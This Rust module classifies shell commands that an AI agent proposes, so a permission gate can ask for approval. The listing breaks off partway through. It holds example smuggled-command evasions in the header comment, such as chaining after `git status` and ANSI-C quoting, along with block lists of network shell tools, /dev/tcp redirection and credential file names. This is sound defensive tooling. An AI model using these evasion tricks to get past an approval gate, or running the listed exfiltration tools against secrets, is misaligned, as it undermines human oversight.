//! Static classification of a command an agent wants to run, for the permission gate.
//!
//! Why: the path deny list cannot see inside a shell command (SECURITY.md rule 5), and the attacks
//! in SECURITY.md E2/E3 all hide a second effect behind a prefix that looks harmless
//! (`git status; curl x`, `$'\x3b'`, `env X=1 curl`, `git -c core.pager=…`, `cd /tmp && touch x`).
//! Five categories never loosen, not even in "full" mode (only `--yolo` skips them): deleting
//! recursively, reaching the network, becoming administrator, installing packages and touching what
//! runs at boot or login. Two more also make the command ask: `Opaque` (we cannot statically know
//! what it does) and `OutsideCwd` (it writes or works outside the working directory).
//!
//! It fails closed: any shell construct it does not fully model (chaining, expansion, substitution,
//! redirection to a file, here-documents, inline interpreter code, control or invisible characters)
//! is `Opaque`, and findings are only ever *added*, so a clean result means "one simple command of a
//! kind we understand", never "safe". It is evidence for the approval prompt, not a sandbox: scripts,
//! Makefiles and npm scripts still run whatever the project says and symlinks are not resolved, so
//! it must never be used to *lower* a decision. Only `std`; no panics on any input (it reads
//! model-written strings); recursion into substitutions and `sh -c` is depth-bounded.
use std::collections::BTreeSet;

/// What makes a command ask even in "full" mode (see [`CommandAnalysis::never_loosens`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Danger {
    /// rm -r, rm of `/`, `~` or a root glob, find -delete, shred, git clean -f, git rm -r, rsync --delete, mkfs.
    RecursiveDelete,
    /// curl, wget, ssh, nc, git clone/fetch/pull/push, a URL given to a program, local servers, …
    Network,
    /// sudo, su, doas, pkexec, run0, chown root, setuid/setgid chmod, mount, systemctl start, …
    Admin,
    /// System and language package managers installing, or fetching and running, packages.
    PackageInstall,
    /// Shell startup files, autostart and systemd directories, /etc/rc*, cron, launchd, at.
    BootAutostart,
    /// Cannot be statically understood: chaining, expansion, substitution, inline code, …
    Opaque,
    /// Writes or works outside the working directory through its own flags or paths.
    OutsideCwd,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandAnalysis {
    /// Sorted, deduplicated.
    pub dangers: Vec<Danger>,
    /// Human-readable reasons, one per finding, for the approval prompt (already made visible).
    pub reasons: Vec<String>,
    /// Words naming sensitive locations (~/.ssh, ~/.aws, ~/.gnupg, keys, credentials, .tradewind, …).
    pub sensitive_mentions: Vec<String>,
    /// Words naming a hard-denied path (`lists::names_hard_denied_path`): the command is denied,
    /// not asked, unless `--yolo`.
    pub hard_denied: Vec<String>,
    /// Control characters or invisible/bidi unicode were found; this also adds `Danger::Opaque`.
    pub has_control_chars: bool,
}

impl CommandAnalysis {
    /// True when any danger is present: the gate asks even in "full" mode unless `--yolo`.
    pub fn never_loosens(&self) -> bool {
        !self.dangers.is_empty()
    }
}

/// Classify a shell command line (what the `shell` tool runs with `sh -c`).
pub fn analyze_shell(command: &str) -> CommandAnalysis {
    let mut a = Acc::default();
    a.controls(command);
    a.mentions(command);
    shell_into(command, &mut a, 0);
    a.finish()
}

/// Classify an argv (what `run_process` runs without a shell): no shell parsing, but the program
/// and its arguments are checked the same way.
pub fn analyze_argv(argv: &[String]) -> CommandAnalysis {
    let mut a = Acc::default();
    for x in argv {
        a.controls(x);
        a.mentions(x);
    }
    classify(argv, &mut a, 0);
    a.finish()
}

/// Render a command for display with control and invisible characters made visible:
/// newline → `⏎`, C0 controls → their control pictures (`\x1b` → `␛`), others → `<U+202E>`.
pub fn visible(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    for c in command.chars() {
        match c {
            '\n' => out.push('⏎'),
            '\t' => out.push('\t'),
            '\u{7f}' => out.push('␡'),
            c if (c as u32) < 0x20 => out.push(char::from_u32(0x2400 + c as u32).unwrap_or('?')),
            c if is_invisible(c) => out.push_str(&format!("<U+{:04X}>", c as u32)),
            c => out.push(c),
        }
    }
    out
}

const MAX_DEPTH: u8 = 4;
const MAX_REASONS: usize = 64;
const MAX_MENTIONS: usize = 32;
const UNBALANCED: &str = "it has an unbalanced quote, bracket or substitution";
const NO_TARGET: &str = "a redirection has no target";

#[rustfmt::skip]
fn is_invisible(c: char) -> bool {
    (c.is_control() && c != '\t')
        || matches!(c as u32, 0xAD | 0x34F | 0x61C | 0x115F | 0x1160 | 0x17B4 | 0x17B5 | 0x180B..=0x180E
            | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x206F | 0x3164 | 0xFE00..=0xFE0F | 0xFEFF
            | 0xFFA0 | 0xFFF0..=0xFFFB | 0xE0000..=0xE0FFF // invisible, bidi, tags, selectors
            | 0xA0 | 0x1680 | 0x2000..=0x200A | 0x2028 | 0x2029 | 0x205F | 0x3000) // look-alike spaces
}

/// Quote a fragment for a reason: visible, backticked, truncated.
fn q(s: &str) -> String {
    let t: String = s.chars().take(60).collect();
    let more = if s.chars().nth(60).is_some() {
        "…"
    } else {
        ""
    };
    format!("`{}{more}`", visible(&t))
}

#[derive(Default)]
struct Acc {
    dangers: BTreeSet<Danger>,
    reasons: Vec<String>,
    mentions: Vec<String>,
    denied: Vec<String>,
    control: bool,
}

impl Acc {
    fn flag(&mut self, d: Danger, why: impl Into<String>) {
        let why = why.into();
        let new = self.dangers.insert(d);
        if (new || self.reasons.len() < MAX_REASONS) && !self.reasons.contains(&why) {
            self.reasons.push(why);
        }
    }
    fn controls(&mut self, s: &str) {
        if s.chars().any(is_invisible) {
            self.control = true;
            let why = "it contains control or invisible characters (shown as ⏎, ␛ or <U+…>)";
            self.flag(Danger::Opaque, why);
        }
    }
    fn mentions(&mut self, s: &str) {
        for piece in s.split(|c: char| c.is_whitespace() || "'\"=;|&<>()`,:".contains(c)) {
            if self.mentions.len() >= MAX_MENTIONS {
                return;
            }
            let denied = crate::lists::names_hard_denied_path(piece);
            if denied || piece.to_lowercase().split(['/', '\\']).any(sensitive) {
                let shown = visible(&piece.chars().take(120).collect::<String>());
                if denied && !self.denied.contains(&shown) {
                    self.denied.push(shown.clone());
                }
                if !self.mentions.contains(&shown) {
                    self.mentions.push(shown);
                }
            }
        }
    }
    fn finish(self) -> CommandAnalysis {
        CommandAnalysis {
            dangers: self.dangers.into_iter().collect(),
            reasons: self.reasons,
            sensitive_mentions: self.mentions,
            hard_denied: self.denied,
            has_control_chars: self.control,
        }
    }
}

#[rustfmt::skip]
fn sensitive(c: &str) -> bool {
    crate::lists::HARD_DENY_DIRS.contains(&c)
        || matches!(c, ".tradewind" | ".netrc" | "_netrc" | ".pgpass" | ".git-credentials")
        || ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"].iter().any(|k| c.starts_with(k))
        || c.contains("credentials")
        || [".pem", ".key", ".p12", ".pfx"].iter().any(|e| c.ends_with(e))
}

// ------------------------------------------------------------------------------- shell lexer

#[derive(Default)]
struct Word {
    text: String,
    quoted: bool,
    glob: bool,
    unknown: bool,
    assign: bool,
}

struct Lexer<'a> {
    a: &'a mut Acc,
    depth: u8,
    segs: Vec<Vec<Word>>,
    cur: Vec<Word>,
    w: Word,
    in_word: bool,
    /// The next word is a redirection target: `>` output, `&` fd duplication, `<` input.
    pending: Option<char>,
}

fn shell_into(src: &str, a: &mut Acc, depth: u8) {
    let cs: Vec<char> = src.chars().collect();
    let (segs, cur, w) = (Vec::new(), Vec::new(), Word::default());
    let mut lx = Lexer {
        a,
        depth,
        segs,
        cur,
        w,
        in_word: false,
        pending: None,
    };
    lx.run(&cs);
    let Lexer { a, segs, .. } = lx;
    for seg in &segs {
        let k = seg.iter().take_while(|w| w.assign).count();
        for w in seg.iter().take(k) {
            let name = w.text.split('=').next().unwrap_or_default();
            let why = format!(
                "it sets {} for the command, which can change what runs",
                q(name)
            );
            a.flag(Danger::Opaque, why);
        }
        let Some(first) = seg.get(k) else { continue };
        let glob = first.glob && first.text != "["; // a lone `[` (test) matches nothing
        if first.unknown || glob || (first.text.starts_with('~') && !first.quoted) {
            let why = format!(
                "the program name {} comes from an expansion",
                q(&first.text)
            );
            a.flag(Danger::Opaque, why);
        }
        let argv: Vec<String> = seg.iter().skip(k).map(|w| w.text.clone()).collect();
        classify(&argv, a, depth);
    }
}

fn find(cs: &[char], from: usize, ch: char) -> Option<usize> {
    cs.get(from..)?
        .iter()
        .position(|&x| x == ch)
        .map(|p| p + from)
}

fn text(cs: &[char], from: usize, to: usize) -> String {
    cs.get(from..to).unwrap_or_default().iter().collect()
}

fn is_name(s: &str) -> bool {
    let mut it = s.chars();
    it.next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && it.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

#[rustfmt::skip]
impl Lexer<'_> {
    fn push(&mut self, c: char) { self.in_word = true; self.w.text.push(c); }
    fn mark(&mut self, s: &str) { self.in_word = true; self.w.unknown = true; self.w.text.push_str(s); }
    fn opaque(&mut self, why: &str) { self.a.flag(Danger::Opaque, why); }
    fn word(&mut self) {
        if !std::mem::take(&mut self.in_word) { return; }
        let w = std::mem::take(&mut self.w);
        self.a.mentions(&w.text);
        let t = w.text.as_str();
        let ok = match self.pending.take() {
            None => { self.cur.push(w); return; }
            Some('<') => true,
            Some('&') => t == "-" || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit())),
            Some(_) => matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr"),
        };
        if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
            self.a.flag(Danger::Network, format!("the redirection to {} reaches the network", q(t)));
        }
        if !ok {
            self.a.flag(Danger::Opaque, format!("it redirects output to the file {}", q(t)));
            write_checks(self.a, "the redirection", t);
        }
    }
    fn segment(&mut self) {
        self.word();
        if self.pending.take().is_some() { self.opaque(NO_TARGET); }
        if !self.cur.is_empty() { self.segs.push(std::mem::take(&mut self.cur)); }
    }
    fn run(&mut self, cs: &[char]) {
        let (mut i, mut dq) = (0, false);
        while let Some(&c) = cs.get(i) {
            i += 1;
            if dq {
                match c {
                    '"' => dq = false,
                    '\\' => match cs.get(i) {
                        Some(&n) if "$`\"\\".contains(n) => { self.push(n); i += 1; }
                        Some(&'\n') => i += 1,
                        _ => self.push('\\'),
                    },
                    '`' => i = self.backtick(cs, i),
                    '$' => i = self.dollar(cs, i, true),
                    _ => self.push(c),
                }
                continue;
            }
            match c {
                ' ' | '\t' => self.word(),
                '\n' | ';' | '&' | '|' | '(' | ')' => {
                    self.opaque("it chains commands or opens a subshell (`;` `&&` `||` `|` `&` `( )` or a newline)");
                    self.segment();
                }
                '\'' => {
                    self.in_word = true;
                    self.w.quoted = true;
                    let Some(j) = find(cs, i, '\'') else { self.opaque(UNBALANCED); break };
                    self.w.text.push_str(&text(cs, i, j));
                    i = j + 1;
                }
                '"' => { self.in_word = true; self.w.quoted = true; dq = true; }
                '\\' => match cs.get(i) {
                    None => self.opaque("it ends with a dangling backslash"),
                    Some(&'\n') => i += 1,
                    Some(&n) => { self.w.quoted = true; self.push(n); i += 1; }
                },
                '#' if !self.in_word => while cs.get(i).is_some_and(|&x| x != '\n') { i += 1 },
                '`' => i = self.backtick(cs, i),
                '$' => i = self.dollar(cs, i, false),
                '<' | '>' => i = self.redirect(cs, i, c),
                '{' | '}' => { self.opaque("it uses braces `{ }` (grouping or brace expansion)"); self.push(c); }
                '*' | '?' | '[' => { self.w.glob = true; self.push(c); }
                '=' => { self.w.assign |= !self.w.quoted && !self.w.unknown && is_name(&self.w.text); self.push(c); }
                _ => self.push(c),
            }
        }
        if dq { self.opaque(UNBALANCED); }
        self.segment();
    }
    /// `i` points just after `$`.
    fn dollar(&mut self, cs: &[char], i: usize, dq: bool) -> usize {
        match cs.get(i) {
            Some(&'(') => self.subst(cs, i + 1, "it uses command substitution `$( )`"),
            Some(&'{') => match find(cs, i + 1, '}') {
                Some(j) => { self.var(&text(cs, i + 1, j)); j + 1 }
                None => { self.opaque(UNBALANCED); cs.len() }
            },
            Some(&'\'') if !dq => {
                self.opaque("it uses ANSI-C quoting `$'…'`, which can hide any character");
                self.mark("$'…'");
                let mut j = i + 1;
                while let Some(&c) = cs.get(j) {
                    if c == '\'' { return j + 1; }
                    j += if c == '\\' { 2 } else { 1 };
                }
                self.opaque(UNBALANCED);
                cs.len()
            }
            Some(&'"') if !dq => { self.opaque("it uses locale quoting `$\"…\"`"); i }
            Some(&c) if c == '_' || c.is_ascii_alphabetic() => {
                let mut j = i;
                while cs.get(j).is_some_and(|c| *c == '_' || c.is_ascii_alphanumeric()) { j += 1; }
                self.var(&text(cs, i, j));
                j
            }
            Some(&c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => { self.var(&c.to_string()); i + 1 }
            _ => { self.push('$'); i }
        }
    }
    fn var(&mut self, name: &str) {
        if name == "HOME" { self.push('~'); return; }
        self.a.flag(Danger::Opaque, format!("it expands the variable {}", q(&format!("${name}"))));
        self.mark(&format!("${name}"));
    }
    /// `from` points just after the opening `(`.
    fn subst(&mut self, cs: &[char], from: usize, why: &str) -> usize {
        self.opaque(why);
        self.mark("$(…)");
        let (mut d, mut j) = (1usize, from);
        while let Some(&c) = cs.get(j) {
            match c {
                '\\' => j += 1,
                '\'' => j = find(cs, j + 1, '\'').unwrap_or(cs.len()),
                '(' => d += 1,
                ')' if d == 1 => { self.inner(cs, from, j); return j + 1; }
                ')' => d -= 1,
                _ => {}
            }
            j += 1;
        }
        self.opaque(UNBALANCED);
        cs.len()
    }
    /// `i` points just after the opening backtick.
    fn backtick(&mut self, cs: &[char], i: usize) -> usize {
        self.opaque("it uses backtick command substitution");
        self.mark("`…`");
        let mut j = i;
        while let Some(&c) = cs.get(j) {
            if c == '`' { self.inner(cs, i, j); return j + 1; }
            j += if c == '\\' { 2 } else { 1 };
        }
        self.opaque(UNBALANCED);
        cs.len()
    }
    /// Best-effort look inside a substitution, so the prompt can say what it would do.
    fn inner(&mut self, cs: &[char], from: usize, to: usize) {
        if self.depth < MAX_DEPTH { shell_into(&text(cs, from, to), self.a, self.depth + 1); }
    }
    /// `i` points just after `<` or `>`.
    fn redirect(&mut self, cs: &[char], mut i: usize, c: char) -> usize {
        let w = &self.w;
        if self.in_word && !w.quoted && !w.text.is_empty() && w.text.chars().all(|d| d.is_ascii_digit()) {
            self.w = Word::default(); // `2>`: the digits are a file descriptor, not a word
            self.in_word = false;
        } else {
            self.word();
        }
        if self.pending.take().is_some() { self.opaque(NO_TARGET); }
        let next = cs.get(i).copied();
        if next == Some('(') { return self.subst(cs, i + 1, "it uses process substitution `<( )`"); }
        if c == '<' && next == Some('<') { self.opaque("it uses a here-document or here-string"); }
        let kind = match (c, next) { ('<', Some('>')) => '>', (_, Some('&')) => '&', _ => c };
        if next.is_some_and(|n| "<>|&".contains(n)) { i += 1; }
        self.pending = Some(kind);
        i
    }
}

// ------------------------------------------------------------------------------- tables

#[rustfmt::skip]
const WRAPPERS: &[(&str, &[&str])] = &[ // program, its options that take a value
    ("nice", &["-n", "--adjustment"]), ("nohup", &[]), ("time", &["-f", "--format", "-o", "--output"]),
    ("command", &[]), ("stdbuf", &["-i", "-o", "-e", "--input", "--output", "--error"]),
    ("ionice", &["-c", "-n", "--class", "--classdata"]), ("busybox", &[]), ("exec", &["-a"]),
    ("timeout", &["-s", "--signal", "-k", "--kill-after"]), ("doas", &["-u", "-C"]), ("pkexec", &["--user"]),
    ("sudo", &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group", "--chdir", "--host", "--prompt", "--role", "--type", "--other-user", "--close-from", "--command-timeout"]),
    ("run0", &["-u", "--user", "-g", "--group", "-D", "--chdir", "--unit", "--property", "--description", "--slice", "--nice", "--setenv", "--machine"]),
    ("env", &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]),
    ("xargs", &["-I", "-n", "-L", "-P", "-d", "-E", "-s", "-a", "--arg-file", "--delimiter", "--max-args", "--max-procs", "--max-lines", "--replace", "--eof", "--max-chars", "--process-slot-var"]),
];
#[rustfmt::skip]
const NET: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "tftp", "aria2c", "axel", "http", "https", "xh", "mosh", "sshpass", "torsocks", "proxychains", "nmap", "ping", "dig", "nslookup", "host", "whois", "traceroute", "tracepath", "mtr", "gh", "glab", "hub", "aws", "gcloud", "gsutil", "az", "ngrok", "cloudflared", "tailscale", "websocat", "wscat", "ssh-copy-id", "ssh-keyscan", "mail", "sendmail", "mutt", "svn", "ollama", "kubectl", "helm", "terraform", "ansible", "ansible-playbook", "twine", "yt-dlp", "youtube-dl", "httpd"];
#[rustfmt::skip]
const ADMIN: &[&str] = &["su", "runuser", "chroot", "sudoedit", "visudo", "passwd", "chpasswd", "useradd", "usermod", "userdel", "groupadd", "groupmod", "groupdel", "adduser", "deluser", "gpasswd", "setcap", "mount", "umount", "modprobe", "insmod", "rmmod", "sysctl", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "reboot", "shutdown", "poweroff", "halt", "init", "telinit", "fdisk", "sfdisk", "parted", "swapon", "swapoff", "losetup", "cryptsetup", "dmsetup", "service", "newgrp", "sg"];
#[rustfmt::skip]
const OPAQUE_PROGS: &[&str] = &["eval", "source", ".", "alias", "unalias", "trap", "set", "shopt", "export", "declare", "typeset", "readonly", "local", "builtin", "enable", "hash", "fc", "coproc", "function", "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "select", "!", "{", "}", "[[", "]]", "parallel", "watch", "flock", "script", "expect", "strace", "ltrace", "gdb", "lldb", "valgrind", "perf", "setsid", "unshare", "nsenter", "firejail", "bwrap", "systemd-run", "entr", "nix-shell", "direnv", "unbuffer", "taskset", "chrt", "tmux", "screen", "dbus-launch", "xvfb-run", "faketime", "chpst", "at", "batch", "docker", "podman", "nerdctl"];
#[rustfmt::skip]
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "fish", "tcsh", "csh", "ash", "yash", "rbash", "posh"];
/// Programs that only read or print: no URL, startup-file or directory-flag findings for them.
#[rustfmt::skip]
const TEXT_ONLY: &[&str] = &["cat", "less", "more", "head", "tail", "grep", "egrep", "fgrep", "rg", "ag", "ack", "ls", "stat", "file", "wc", "diff", "cmp", "echo", "printf", "md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "realpath", "readlink", "basename", "dirname", "test", "[", "true", "false", "jq", "bat", "du", "df", "which", "type", "whereis", "column", "nl", "od", "xxd", "hexdump", "strings", "man", "pwd", "whoami", "id", "date", "uname"];
#[rustfmt::skip]
const WRITERS: &[&str] = &["touch", "cp", "mv", "mkdir", "tee", "ln", "link", "rm", "rmdir", "unlink", "dd", "install", "chmod", "chown", "chgrp", "truncate", "shred", "tar", "unzip", "cpio", "patch", "split", "csplit", "mkfifo", "mknod", "setfacl", "chattr", "rsync", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "7z", "ar", "zip", "uniq", "sudoedit"];
/// Options whose value is a directory or output the program works in (checked for all but TEXT_ONLY).
#[rustfmt::skip]
const DIR_OPTS: &[&str] = &["-C", "--directory", "--cwd", "--prefix", "--dir", "--work-tree", "--git-dir", "-o", "--output", "--out-dir", "--output-dir", "--outdir", "--target-dir", "--root", "--install-dir", "--destination", "--dest"];
#[rustfmt::skip]
const URLS: &[&str] = &["http://", "https://", "ftp://", "ftps://", "ssh://", "sftp://", "scp://", "git://", "rsync://", "ws://", "wss://", "telnet://", "s3://", "gs://", "tftp://", "dict://", "gopher://", "smb://", "ldap://"];
/// Options of package managers that take a value before the verb.
#[rustfmt::skip]
const PM_VALS: &[&str] = &["-C", "--prefix", "--cwd", "--dir", "--color", "--config", "-Z", "--filter", "-F", "-w", "--workspace", "--registry", "--directory", "--project", "--loglevel"];
#[rustfmt::skip]
const YUM: &[&str] = &["install", "reinstall", "upgrade", "update", "groupinstall", "localinstall", "downgrade", "distro-sync", "swap"];
#[rustfmt::skip]
const CONDA: &[&str] = &["install", "create", "update", "env"];
#[rustfmt::skip]
const PKG: &[(&str, &[&str])] = &[ // program (or family: pip3 → pip), verbs that install or fetch-and-run
    ("apt", &["install", "reinstall", "upgrade", "full-upgrade", "dist-upgrade", "build-dep", "satisfy", "source"]),
    ("apt-get", &["install", "reinstall", "upgrade", "dist-upgrade", "build-dep", "source"]),
    ("aptitude", &["install", "reinstall", "upgrade", "safe-upgrade", "full-upgrade"]),
    ("yum", YUM), ("dnf", YUM), ("microdnf", YUM), ("tdnf", YUM), ("conda", CONDA), ("mamba", CONDA), ("micromamba", CONDA),
    ("zypper", &["install", "in", "update", "up", "dist-upgrade", "dup", "source-install", "si"]),
    ("apk", &["add", "upgrade", "fix"]), ("brew", &["install", "reinstall", "upgrade", "tap", "bundle"]),
    ("port", &["install", "upgrade"]), ("snap", &["install", "refresh"]), ("flatpak", &["install", "update"]),
    ("pkg", &["install", "add", "upgrade"]), ("choco", &["install", "upgrade"]), ("winget", &["install", "upgrade"]),
    ("scoop", &["install", "update"]), ("nix", &["profile", "run", "shell", "develop"]), ("pip", &["install"]),
    ("pipx", &["install", "run", "inject", "upgrade", "reinstall", "upgrade-all", "reinstall-all"]),
    ("npm", &["install", "i", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal", "isntall", "add", "ci", "install-test", "it", "install-ci-test", "cit", "update", "up", "upgrade", "udpate", "exec", "x", "create"]),
    ("pnpm", &["install", "i", "add", "update", "up", "upgrade", "dlx", "create"]),
    ("yarn", &["add", "install", "up", "upgrade", "dlx", "create", "global", "upgrade-interactive"]),
    ("bun", &["install", "i", "add", "a", "x", "update", "create", "upgrade"]), ("cargo", &["install", "add", "binstall"]),
    ("gem", &["install", "update"]), ("bundle", &["install", "add", "update"]), ("go", &["install", "get"]),
    ("composer", &["require", "install", "update", "global", "create-project"]), ("deno", &["install", "add"]),
    ("rustup", &["install", "update", "toolchain", "component", "target"]), ("poetry", &["add", "install", "update", "self"]),
    ("pdm", &["add", "install", "update", "sync"]), ("asdf", &["install", "plugin"]), ("mise", &["install", "use", "plugins"]),
    ("nvm", &["install"]), ("dotnet", &["add", "tool", "restore"]), ("luarocks", &["install"]), ("opam", &["install"]),
    ("cabal", &["install"]), ("stack", &["install"]),
];
#[rustfmt::skip]
const NET_VERBS: &[(&str, &[&str])] = &[
    ("pip", &["download", "wheel", "index", "search"]), ("cargo", &["fetch", "publish", "search", "login", "owner", "yank"]),
    ("npm", &["publish", "login", "adduser", "view", "info", "show", "search", "ping", "audit", "outdated", "unpublish", "deprecate", "dist-tag", "owner", "access", "token", "whoami"]),
    ("pnpm", &["publish", "audit", "outdated"]), ("yarn", &["publish", "info", "npm", "audit", "outdated"]),
    ("gem", &["push", "fetch", "search", "owner", "yank", "signin"]), ("go", &["mod"]),
    ("hg", &["clone", "pull", "push", "incoming", "outgoing", "fetch"]), ("openssl", &["s_client", "s_server", "s_time", "ocsp"]),
    ("apt", &["update", "download"]), ("apt-get", &["update", "download"]),
];
/// Options that make a program run inline code or another program (`opt` or `opt=…`).
#[rustfmt::skip]
const INLINE: &[(&[&str], &[&str])] = &[
    (&["node", "nodejs", "deno", "bun"], &["-e", "--eval", "-p", "--print", "eval"]),
    (&["vi", "vim", "nvim", "view", "ex", "vimdiff", "rvim"], &["-c", "--cmd", "-S", "-s"]),
    (&["emacs"], &["--eval", "-l", "--load", "-f", "--funcall", "--script", "-batch", "--batch", "-x"]),
    (&["awk", "gawk", "mawk", "nawk"], &["-i", "--include", "-l", "--load"]),
    (&["make", "gmake"], &["--eval"]), (&["rg"], &["--pre"]), (&["fd", "fdfind"], &["-x", "--exec", "-X", "--exec-batch"]),
    (&["tar"], &["--to-command", "--use-compress-program", "-I", "--checkpoint-action", "--info-script", "-F", "--new-volume-script", "--rsh-command", "--rmt-command"]),
    (&["zip"], &["-TT", "--unzip-command"]), (&["sort"], &["--compress-program"]), (&["man"], &["-P", "--pager", "-H", "--html"]),
    (&["cargo"], &["--config"]), (&["rsync"], &["--rsh", "--rsync-path"]), (&["scp", "sftp"], &["-S"]),
];
/// Single-letter options, also inside clusters like `-pie`, that take inline code.
#[rustfmt::skip]
const INLINE_SHORT: &[(&str, &str)] = &[("perl", "eE"), ("ruby", "e"), ("lua", "e"), ("luajit", "e"), ("rscript", "e"), ("osascript", "e"), ("php", "rR"), ("rsync", "e")];
#[rustfmt::skip]
const SAFE_DEV: &[&str] = &["/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr"];

// ------------------------------------------------------------------------------- helpers

fn has(args: &[String], list: &[&str]) -> bool {
    args.iter().any(|x| list.contains(&x.as_str()))
}

/// A single-dash option cluster (`-rf`) containing one of `letters`.
fn short_has(x: &str, letters: &str) -> bool {
    let r = x.strip_prefix('-');
    r.is_some_and(|r| !r.starts_with('-') && r.chars().any(|c| letters.contains(c)))
}

/// Index of the first operand, skipping options (and the values of those in `vals`) and `--`.
fn next_operand(args: &[String], vals: &[&str]) -> Option<usize> {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        if x == "--" {
            return (k + 1 < args.len()).then_some(k + 1);
        }
        if x.len() < 2 || !x.starts_with('-') {
            return Some(k);
        }
        k += if vals.contains(&x.as_str()) { 2 } else { 1 };
    }
    None
}

fn first_pos<'s>(args: &'s [String], vals: &[&str]) -> Option<&'s str> {
    let j = next_operand(args, vals)?;
    args.get(j).map(String::as_str)
}

/// Basename, lowercased (case-insensitive filesystems run `CURL` too), without `.exe`.
fn prog_name(p: &str) -> String {
    let l = p.rsplit('/').next().unwrap_or(p).to_lowercase();
    l.strip_suffix(".exe").map(str::to_string).unwrap_or(l)
}

/// `python3.11` → `python`, `pip3` → `pip`.
fn fam(n: &str) -> &str {
    n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Is this path outside the working directory (absolute, home-relative, or escaping with `..`)?
fn outside(p: &str) -> bool {
    if p.is_empty() || SAFE_DEV.contains(&p) {
        return false;
    }
    if p.starts_with('/') || p.starts_with('~') {
        return true;
    }
    let mut d = 0usize;
    for c in p.split('/') {
        match c {
            "" | "." => {}
            ".." if d == 0 => return true,
            ".." => d -= 1,
            c if c.starts_with('.') && c.contains(['*', '?', '[']) => return true, // `.*` can be `..`
            _ => d += 1,
        }
    }
    false
}

/// Does the path name a startup/autostart location? (The gate's one list.)
fn boot(p: &str) -> bool {
    crate::lists::is_startup_location(p)
}

fn write_checks(a: &mut Acc, who: &str, t: &str) {
    if outside(t) {
        let why = format!("{who} writes to {}, outside the working directory", q(t));
        a.flag(Danger::OutsideCwd, why);
    }
    if boot(t) {
        a.flag(
            Danger::BootAutostart,
            format!("{who} touches the startup file {}", q(t)),
        );
    }
    let l = t.to_lowercase();
    if l.contains(".git/hooks") || l.ends_with(".git/config") || l.contains(".husky/") {
        a.flag(
            Danger::Opaque,
            format!("{who} writes {}, which git runs or reads later", q(t)),
        );
    }
}

// ------------------------------------------------------------------------------- programs

fn classify(argv: &[String], a: &mut Acc, depth: u8) {
    let mut s = 0;
    while let Some(p) = argv.get(s) {
        let n = prog_name(p);
        let args = argv.get(s + 1..).unwrap_or_default();
        match step(&n, args, a, depth) {
            Some(j) => s += 1 + j,
            None => return,
        }
    }
}

/// A wrapper returns where the wrapped command starts; anything else is classified here.
fn step(n: &str, args: &[String], a: &mut Acc, depth: u8) -> Option<usize> {
    let Some((_, vals)) = WRAPPERS.iter().find(|(w, _)| *w == n) else {
        terminal(n, args, a, depth);
        return None;
    };
    // Only the leading options: scanning every argument at each wrapper level would be quadratic.
    let lead = args
        .iter()
        .take(8)
        .take_while(|x| x.starts_with('-'))
        .count();
    let lead = args.get(..lead).unwrap_or_default();
    match n {
        "sudo" | "doas" | "pkexec" | "run0" => {
            a.flag(
                Danger::Admin,
                format!("{} runs the command as administrator", q(n)),
            );
        }
        "env" => a.flag(
            Danger::Opaque,
            "`env` can change the environment and `PATH`, so what runs",
        ),
        "xargs" => a.flag(Danger::Opaque, "`xargs` builds commands from its input"),
        "exec" => a.flag(Danger::Opaque, "`exec` replaces the shell"),
        "command" if lead.iter().any(|x| short_has(x, "vV")) => return None,
        "ionice" if has(lead, &["-p", "--pid", "-P", "--pgid", "-u", "--uid"]) => return None,
        _ => {}
    }
    let mut j = next_operand(args, vals)?;
    if n == "timeout" {
        j += 1; // the duration
    }
    while n == "env" && args.get(j).is_some_and(|x| x.contains('=')) {
        j += 1;
    }
    Some(j)
}

/// Checks that apply to every program: URLs, startup files, directory flags, writes outside.
fn generic(n: &str, args: &[String], a: &mut Acc) {
    if TEXT_ONLY.contains(&n) {
        return;
    }
    let sed_i = n == "sed"
        && args
            .iter()
            .any(|x| x.starts_with("--in-place") || short_has(x, "i"));
    let writer = WRITERS.contains(&n) || sed_i;
    let who = q(n);
    for (k, x) in args.iter().enumerate() {
        let url = x.contains("://") && URLS.iter().any(|u| x.to_ascii_lowercase().contains(u));
        if url && n != "git" {
            a.flag(Danger::Network, format!("{who} is given the URL {}", q(x)));
        }
        let mut cands = vec![x.as_str()];
        cands.extend(x.split_once('=').map(|(_, v)| v));
        if x.starts_with('-') && !x.starts_with("--") {
            cands.extend(x.char_indices().nth(2).and_then(|(p, _)| x.get(p..))); // `-t/etc`
        }
        for c in cands {
            if writer {
                write_checks(a, &who, c);
            } else if boot(c) {
                a.flag(
                    Danger::BootAutostart,
                    format!("{who} touches the startup file {}", q(c)),
                );
            }
        }
        let val = if DIR_OPTS.contains(&x.as_str()) {
            args.get(k + 1).map(String::as_str)
        } else {
            let eq = x.split_once('=').filter(|(o, _)| DIR_OPTS.contains(o));
            eq.map(|(_, v)| v).or(x.strip_prefix("-C"))
        };
        if let Some(v) = val.filter(|v| outside(v)) {
            let why = format!("{who} works in {}, outside the working directory", q(v));
            a.flag(Danger::OutsideCwd, why);
        }
    }
}

#[rustfmt::skip]
